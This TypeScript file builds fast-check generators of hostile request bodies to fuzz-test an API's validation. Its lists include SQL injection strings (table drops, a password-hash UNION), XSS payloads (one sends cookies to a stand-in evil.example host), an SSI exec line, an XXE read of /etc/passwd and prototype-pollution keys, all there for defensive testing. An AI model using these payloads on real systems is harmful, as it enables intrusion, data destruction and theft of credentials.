import fc from 'fast-check';

/*
 * Generators of hostile request bodies, pure (no I/O): random JSON, every code point (lone surrogates,
 * NUL, bidi marks), injection strings, absurd numbers, deep nesting, duplicate keys, wrong content types,
 * huge bodies, and "nearly valid" bodies built from a route's JSON Schema (from the OpenAPI document)
 * with one field broken. Every case is raw text plus a content type, so malformed JSON can be expressed.
 */

/** A loose view of the JSON Schema that fastify-type-provider-zod puts in the OpenAPI document. */
export type JsonSchema = {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  enum?: unknown[];
  const?: unknown;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  nullable?: boolean;
  format?: string;
  pattern?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number | boolean;
  minItems?: number;
  maxItems?: number;
  additionalProperties?: boolean | JsonSchema;
};

/** One request to send: the raw body (undefined = none), its content type (undefined = none) and what it is. */
export type HostileBody = { kind: string; payload?: string | Buffer; contentType?: string };

export const BODY_LIMIT = 2 * 1024 * 1024;

export const SQL_STRINGS = [
  "' OR 1=1 --",
  "'; DROP TABLE deputy; --",
  '"; DROP TABLE audit_event; --',
  "1' UNION SELECT password_hash, username FROM app_user --",
  "x'); DELETE FROM suggestion WHERE ('1'='1",
  "' OR ''='",
  '1; SELECT pg_sleep(5); --',
  "%' AND 1=(SELECT COUNT(*) FROM sqlite_master) AND '%'='",
  "\\'; DROP TABLE town; --",
];

export const HTML_STRINGS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(document.cookie)>',
  "<svg/onload=alert('xss')>",
  'javascript:alert(1)',
  '</textarea><script>fetch("//evil.example/"+document.cookie)</script>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">点我</a>',
  '{{constructor.constructor("alert(1)")()}}',
  '<!--#exec cmd="/bin/ls" -->',
];

/** Code points that break naive text handling: NUL, bidi overrides, BOM, zero-width, lone surrogates, astral. */
export const NASTY_CHARS = ['\u0000', '\u202E', '\u200F', '\u200B', '\uFEFF', '\uD800', '\uDFFF', '\uFFFF', '\u{1F600}', '\u0301', '\r\n', '\u2028'];

/** Any code point 0..0x10FFFF, lone surrogates included (fast-check's 'binary' unit leaves those out). */
const anyCodePoint = fc.oneof(
  fc.integer({ min: 0, max: 0x10ffff }).map((c) => String.fromCodePoint(c)),
  fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c)),
  fc.constantFrom(...NASTY_CHARS),
);

export const unicodeString = fc.string({ unit: anyCodePoint, maxLength: 40 });

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...SQL_STRINGS),
  fc.constantFrom(...HTML_STRINGS),
  unicodeString,
  fc.constantFrom(
    '',
    ' ',
    '\t\n',
    'null',
    'undefined',
    'NaN',
    '0',
    '-1',
    '9'.repeat(400),
    '__proto__',
    '01ZZZZZZZZZZZZZZZZZZZZZZZZ',
    '2026-02-30',
    '9999-99-99',
    '2026-01-01T25:61:61Z',
  ),
);

export const HOSTILE_NUMBERS = [1e308, -1e308, -1, 0, -0, 0.5, 2 ** 53 + 1, -(2 ** 53) - 1, 2 ** 31, 2 ** 63, 5e-324, 1e21];

/** Numbers as JSON text, including forms JSON.stringify never writes (1e999 parses to Infinity). */
export const hostileNumberText = fc.oneof(
  fc.constantFrom(...HOSTILE_NUMBERS).map((n) => JSON.stringify(n)),
  fc.constantFrom('1e999', '-1e999', '1E+400', '123456789012345678901234567890', '-0.0', '0.0000000000000000000001'),
  fc.double({ noNaN: true, noDefaultInfinity: true }).map((n) => JSON.stringify(n)),
);

/** Placeholder replaced by raw number text after JSON.stringify (lets a body carry 1e999). */
const RAW = '\u0001RAW\u0001';
const rawNumber = (text: string) => `${RAW}${text}${RAW}`;
const stringify = (v: unknown) => JSON.stringify(v).replace(new RegExp(`"${RAW}(.*?)${RAW}"`, 'g'), '$1');

/** A value of some other type than the schema wants (or a hostile one of the same type). */
export const wrongValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  hostileNumberText.map(rawNumber),
  fc.constantFrom(true, false, null, [], {}, [null], { id: 1 }, [[[]]], ['x', 1, null]),
  fc.jsonValue({ maxDepth: 3 }),
);

const typesOf = (s: JsonSchema): string[] => (Array.isArray(s.type) ? s.type : s.type ? [s.type] : []);

/**
 * What makes a plausible body pass the service's checks too: a real id for a field named like `deputyId`
 * or `unitIds` (`idFor` gets the field name), the record's current `version`, and whether optional fields
 * are filled (`full`) or left out.
 */
export type Hints = { idFor?: (field: string) => string | undefined; version?: number; full?: boolean };

/** A plausible value for a schema: what a well-meaning client would send (best effort; it may still be refused). */
export function plausible(s: JsonSchema | undefined, hints: Hints = {}, depth = 0, field = ''): unknown {
  if (!s || depth > 8) return null;
  if (s.const !== undefined) return s.const;
  if (s.enum?.length) return s.enum[0];
  const alt = s.anyOf ?? s.oneOf;
  if (alt?.length) return plausible(alt.find((x) => !typesOf(x).includes('null')) ?? alt[0], hints, depth + 1, field);
  if (s.allOf?.length) return Object.assign({}, ...s.allOf.map((x) => plausible(x, hints, depth + 1, field) as object));
  const type = typesOf(s).find((t) => t !== 'null') ?? (s.properties ? 'object' : undefined);
  if (field === 'version' && hints.version !== undefined && (type === 'integer' || type === 'number')) return hints.version;
  const id = /Ids?$/.test(field) ? hints.idFor?.(field.replace(/s$/, '')) : undefined;
  switch (type) {
    case 'object': {
      const out: Record<string, unknown> = {};
      for (const [k, v] of Object.entries(s.properties ?? {})) {
        if (hints.full || s.required?.includes(k)) out[k] = plausible(v, hints, depth + 1, k);
      }
      return out;
    }
    case 'array':
      return Array.from({ length: Math.max(1, s.minItems ?? 0) }, () => plausible(s.items, hints, depth + 1, field));
    case 'integer':
    case 'number':
      if (typeof s.minimum === 'number') return s.exclusiveMinimum === true ? s.minimum + 1 : s.minimum;
      return typeof s.exclusiveMinimum === 'number' ? s.exclusiveMinimum + 1 : 1;
    case 'boolean':
      return true;
    case 'string': {
      if (id) return id;
      if (/At$/.test(field)) return '2026-06-06T09:00:00+08:00';
      if (/(Date|On)$/.test(field)) return '2026-06-06';
      if (s.format === 'date' || s.pattern?.includes('\\d{4}-\\d{2}-\\d{2}')) return '2026-03-02';
      if (s.format === 'date-time') return '2026-03-02T08:00:00.000Z';
      if (s.pattern?.includes('\\d{4}-\\d{2}')) return '2026-03';
      if (s.pattern?.includes('A-Za-z0-9')) return 'H01';
      const n = Math.max(1, s.minLength ?? 1);
      return '测试'.repeat(Math.ceil(n / 2)).slice(0, Math.min(n + 2, s.maxLength ?? n + 2));
    }
    default:
      return null;
  }
}

/** Every path into a plausible value where a leaf or a container sits (the root excluded). */
export function pathsOf(v: unknown, prefix: (string | number)[] = [], out: (string | number)[][] = []): (string | number)[][] {
  if (Array.isArray(v)) {
    for (const [i, x] of v.entries()) pathsOf(x, [...prefix, i], out);
  } else if (v && typeof v === 'object') for (const [k, x] of Object.entries(v)) pathsOf(x, [...prefix, k], out);
  if (prefix.length) out.push(prefix);
  return out;
}

function setAt(root: unknown, path: (string | number)[], value: unknown): unknown {
  const copy = structuredClone(root) as Record<string | number, unknown>;
  let cur = copy;
  for (const k of path.slice(0, -1)) cur = cur[k] as Record<string | number, unknown>;
  cur[path[path.length - 1]] = value;
  return copy;
}

function deleteAt(root: unknown, path: (string | number)[]): unknown {
  const copy = structuredClone(root) as Record<string | number, unknown>;
  let cur = copy;
  for (const k of path.slice(0, -1)) cur = cur[k] as Record<string | number, unknown>;
  if (Array.isArray(cur)) cur.splice(Number(path[path.length - 1]), 1);
  else delete cur[path[path.length - 1]];
  return copy;
}

const json = (payload: string, kind: string): HostileBody => ({ kind, payload, contentType: 'application/json' });

/**
 * Bodies that are valid but for one thing: one field of the wrong type or hostile, one field removed,
 * or an unknown field added; built on the required fields alone or on all of them. `ids` are real ids
 * of the town, tried in id-like fields.
 */
export function nearlyValid(schema: JsonSchema | undefined, hints: Hints = {}, ids: string[] = []): fc.Arbitrary<HostileBody> {
  const bases = [plausible(schema, { ...hints, full: false }), plausible(schema, { ...hints, full: true })];
  return fc.constantFrom(...bases).chain((base) => {
    const paths = pathsOf(base);
    if (!paths.length) return wrongValue.map((v) => json(stringify(v), 'nearly-valid:root'));
    const path = fc.constantFrom(...paths);
    const withIds = ids.length ? fc.constantFrom(...ids) : hostileString;
    return fc.oneof(
      { weight: 5, arbitrary: fc.tuple(path, wrongValue).map(([p, v]) => json(stringify(setAt(base, p, v)), `nearly-valid:wrong ${p.join('.')}`)) },
      { weight: 1, arbitrary: fc.tuple(path, withIds).map(([p, v]) => json(stringify(setAt(base, p, v)), `nearly-valid:id ${p.join('.')}`)) },
      { weight: 1, arbitrary: path.map((p) => json(stringify(deleteAt(base, p)), `nearly-valid:missing ${p.join('.')}`)) },
      { weight: 1, arbitrary: fc.constant(json(stringify(base), 'nearly-valid:as is')) },
      {
        weight: 1,
        arbitrary: fc
          .tuple(fc.constantFrom('townId', 'id', 'createdBy', 'version', 'constructor', 'isAdmin'), wrongValue)
          .map(([k, v]) => json(stringify({ ...(base as object), [k]: v }), `nearly-valid:extra ${k}`)),
      },
    );
  });
}

/** Random JSON of any shape, and random JS values serialised as well as JSON can. */
export const randomJson: fc.Arbitrary<HostileBody> = fc.oneof(
  fc.jsonValue().map((v) => json(JSON.stringify(v) ?? 'null', 'random-json')),
  fc.anything({ maxDepth: 4 }).map((v) => {
    let text: string | undefined;
    try {
      text = JSON.stringify(v);
    } catch {
      text = String(v);
    }
    return json(text ?? 'undefined', 'random-anything');
  }),
  fc.dictionary(hostileString, wrongValue, { maxKeys: 6 }).map((o) => json(stringify(o), 'random-object')),
);

/** An arbitrary mixing everything above for one route. */
export function hostileBody(schema: JsonSchema | undefined, hints: Hints = {}, ids: string[] = []): fc.Arbitrary<HostileBody> {
  return fc.oneof(
    { weight: 6, arbitrary: nearlyValid(schema, hints, ids) },
    { weight: 3, arbitrary: randomJson },
    { weight: 1, arbitrary: malformed(schema, hints) },
  );
}

/** `depth` nested arrays or objects as JSON text, built iteratively (no recursion limits here). */
export function deepJson(depth: number, shape: 'array' | 'object'): string {
  return shape === 'array' ? `${'['.repeat(depth)}${']'.repeat(depth)}` : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
}

/** A plausible body with the first string field replaced by `n` characters (or a bare string when none). */
export function bodyWithHugeString(schema: JsonSchema | undefined, n: number, hints: Hints = {}): string {
  const base = plausible(schema, { ...hints, full: true });
  const huge = 'x'.repeat(n);
  const paths = pathsOf(base).filter((p) => typeof pathValue(base, p) === 'string');
  return JSON.stringify(paths.length ? setAt(base, paths[0], huge) : base && typeof base === 'object' ? { ...base, huge } : huge);
}

/**
 * A plausible body with `text` in every free-text field (those plausible() filled with its sample text),
 * so the text reaches the service and the database rather than stopping at validation.
 */
export function bodyWithText(schema: JsonSchema | undefined, text: string, hints: Hints = {}): string {
  const base = plausible(schema, hints);
  let out = base;
  for (const p of pathsOf(base)) {
    const v = pathValue(base, p);
    if (typeof v === 'string' && v.startsWith('测试')) out = setAt(out, p, text);
  }
  return JSON.stringify(out);
}

function pathValue(root: unknown, path: (string | number)[]): unknown {
  let cur = root as Record<string | number, unknown>;
  for (const k of path) cur = cur?.[k] as Record<string | number, unknown>;
  return cur;
}

/**
 * The fixed cases every route gets once: no body, empty and malformed JSON, duplicate keys, prototype keys,
 * deep nesting (10,000 levels), wrong content types, and huge bodies just below and above the 2 MB limit.
 */
export function fixedCases(schema: JsonSchema | undefined, hints: Hints = {}): HostileBody[] {
  const base = plausible(schema, hints);
  const baseText = JSON.stringify(base ?? {});
  const firstKey = base && typeof base === 'object' && !Array.isArray(base) ? Object.keys(base)[0] : undefined;
  const dup = firstKey
    ? `{${JSON.stringify(firstKey)}:${JSON.stringify((base as Record<string, unknown>)[firstKey])},${baseText.slice(1, -1)},${JSON.stringify(firstKey)}:{"$gt":""}}`
    : '{"a":1,"a":2}';
  const deepField = firstKey ? `{${JSON.stringify(firstKey)}:${deepJson(10_000, 'array')}}` : deepJson(10_000, 'array');
  return [
    { kind: 'no body, no content type' },
    json('', 'empty json body'),
    json('{', 'truncated json'),
    json('{"a":1,"a":2}', 'duplicate keys (plain)'),
    json(dup, 'duplicate keys (real field, second wins)'),
    json('{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"x":1}}}', 'prototype keys'),
    json(deepJson(10_000, 'array'), 'deep arrays 10000'),
    json(deepJson(10_000, 'object'), 'deep objects 10000'),
    json(deepField, 'deep value in first field'),
    { kind: 'text/plain', payload: baseText, contentType: 'text/plain' },
    { kind: 'form-urlencoded', payload: 'a=1&title=%3Cscript%3E', contentType: 'application/x-www-form-urlencoded' },
    { kind: 'multipart no boundary', payload: baseText, contentType: 'multipart/form-data' },
    { kind: 'binary garbage as json', payload: Buffer.from([0xff, 0xfe, 0x00, 0x7b, 0xc3, 0x28, 0x7d]), contentType: 'application/json' },
    json(bodyWithText(schema, 'a\u0000b', { ...hints, full: false }), 'NUL in the text fields (required only)'),
    json(bodyWithText(schema, 'a\u0000b', { ...hints, full: true }), 'NUL in the text fields (all)'),
    json(bodyWithText(schema, 'x\uD800y\uDFFF', { ...hints, full: false }), 'lone surrogates in the text fields'),
    json(bodyWithText(schema, `${SQL_STRINGS[1]}${HTML_STRINGS[0]}\u202E\u200F`, { ...hints, full: true }), 'injection and bidi marks in the text fields'),
    json(bodyWithHugeString(schema, BODY_LIMIT - 200, hints), 'huge string just under 2 MB'),
    json(bodyWithHugeString(schema, BODY_LIMIT + 1), 'huge string just over 2 MB'),
    json(bodyWithHugeString(schema, 3 * 1024 * 1024), 'huge string 3 MB'),
  ];
}

/** More malformed bodies and content types, drawn among the generated cases (every one is hit over longer runs). */
export function malformed(schema: JsonSchema | undefined, hints: Hints = {}): fc.Arbitrary<HostileBody> {
  const baseText = JSON.stringify(plausible(schema, hints) ?? {});
  return fc.constantFrom<HostileBody>(
    json('   ', 'blank json body'),
    json('null', 'json null'),
    json('"just a string"', 'json string'),
    json('[]', 'json array'),
    json('1e999', 'json infinity'),
    json("{'a':1}", 'single-quoted json'),
    json('{"a":1,}', 'trailing comma'),
    json(`${baseText}${baseText}`, 'two json documents'),
    json(`\uFEFF${baseText}`, 'json after a BOM'),
    { kind: 'json with charset latin1', payload: baseText, contentType: 'application/json; charset=latin1' },
    { kind: 'bogus content type', payload: baseText, contentType: '%%%/;;;' },
    { kind: 'multipart without parts', payload: '--x--\r\n', contentType: 'multipart/form-data; boundary=x' },
    { kind: 'xml', payload: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', contentType: 'application/xml' },
    { kind: 'text/html', payload: '<script>alert(1)</script>', contentType: 'text/html' },
    { kind: 'no content type', payload: baseText },
    json(bodyWithHugeString(schema, 1024 * 1024, hints), 'huge string 1 MB'),
  );
}
